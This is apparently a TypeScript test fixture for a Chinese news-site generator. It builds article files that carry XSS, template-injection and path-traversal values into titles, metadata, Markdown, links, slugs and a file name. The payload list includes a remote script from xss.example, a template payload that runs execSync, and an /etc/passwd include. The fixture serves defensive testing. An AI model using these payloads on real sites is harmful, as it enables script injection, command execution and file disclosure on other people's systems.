// Injection vectors, and the article files that carry them into every field
// an article can fill: headline, metadata line, body text, Markdown front
// matter (title, kicker, publication, category, authors, editors, slug),
// Markdown body and links, names in running text, and the file name.

export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<IMG SRC="javascript:alert('XSS');">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  "{{ constructor.constructor('alert(1)')() }}",
  '{% raw %}{{7*7}}{% endraw %}',
  `{{ range.constructor("return global.process.mainModule.require('child_process').execSync('touch /tmp/baokan-pwned')")() }}`,
  '{% include "/etc/passwd" %}',
  '${alert(1)}',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  "<style>@import 'javascript:alert(1)';</style>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '?lt;script?gt;alert(1)?lt;/script?gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '[点击](javascript:alert(1))',
  '[点击]( JAVASCRIPT:alert(1) )',
  '![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<x onclick=alert(1)>点击',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '`<img src=x onerror=alert(1)>`',
  '<isindex type=image src=1 onerror=alert(1)>',
];

const NEUTRAL = '甲乙丙';

export interface ArticleFile {
  name: string;
  content: string;
}

/**
 * One .txt and one .md article per payload. With `neutral`, the same files
 * with a harmless word in place of each payload: the pages' structure
 * without anything hostile.
 */
export function payloadArticles(neutral = false): ArticleFile[] {
  const files: ArticleFile[] = [];
  PAYLOADS.forEach((raw, i) => {
    const p = neutral ? NEUTRAL : raw;
    const n = String(i).padStart(2, '0');
    files.push({
      name: `txt-${n}.txt`,
      content: [
        `要闻${p}`,
        `标题${p}推进会`,
        `2019年5月${(i % 28) + 1}日 10:00 123次瀏覽 來源: 有色${p}報 分類: 重点${p}新闻 作者: 张${p}三`,
        `本报讯 5月6日上午9点,省发展改革委在南昌召开会议。${p}`,
        `省发展改革委副主任${p}周立新主持会议。`,
        `会议要求${p}落实“${p}”。 (彼${p}岸)`,
        `责任编辑:李${p}四`,
      ].join('\n') + '\n',
    });
    const yaml = (s: string) => JSON.stringify(s);
    files.push({
      name: `md-${n}.md`,
      content: [
        '---',
        `title: ${yaml(`标题${p}`)}`,
        `kicker: ${yaml(`引题${p}`)}`,
        `publication: ${yaml(`某报${p}`)}`,
        `category: ${yaml(`分类${p}`)}`,
        `authors: [${yaml(`作者${p}`)}, ${yaml('王五')}]`,
        `editors: ${yaml(`编辑${p}`)}`,
        `slug: ${yaml(`slug-${n}${p}`)}`,
        'date: 2020-01-02',
        '---',
        '',
        `正文${p}继续。`,
        '',
        p,
        '',
        `- 列表${p}`,
        `> 引用${p}`,
        '',
        `[链接${p}](/articles/) 与 [另一个](https://example.org/${encodeURIComponent(p)})`,
        '',
        `市公安局局长${p}赵六出席会议并讲话。`,
        '',
      ].join('\n'),
    });
  });
  // The payload in a file name (every character but `/` is allowed).
  files.push({ name: neutral ? `${NEUTRAL}.txt` : `"><img src=x onerror=alert(1)>.txt`, content: '文件名\n本报讯 文件名里有标记。\n' });
  return files;
}

/** Slugs that try to leave the output folder or take a reserved name. */
export const ESCAPING_SLUGS: readonly string[] = [
  '../../escaped-1',
  '../escaped-2',
  '/tmp/baokan-escaped-3',
  '..\\..\\escaped-4',
  '%2e%2e%2fescaped-5',
  'articles/../../escaped-6',
  './.././escaped-7',
  'index.html',
  'pagefind',
  '.',
  '..',
  'con',
];

/** Markdown exercising every formatting element a body may have, the same in both builds. */
export const SHOWCASE = [
  '---',
  'title: 格式示例',
  'date: 2020-01-03',
  '---',
  '',
  '# 小标题',
  '',
  '正文*强调*与**加粗**和`代码`、~~删除~~,见[链接](https://example.org/a)与[站内](/search/)及[段落](#p-0)。',
  '',
  '![图片](https://example.org/a.png "题")',
  '',
  '- 一\n- 二\n\n1. 甲\n2. 乙\n\n> 引用\n\n---\n\n```\n代码块\n```\n',
  '| 表 | 头 |\n| --- | --- |\n| 甲 | 乙 |\n',
  '损坏的文字�在这里,以及?ldquo;实体。',
  '',
].join('\n');
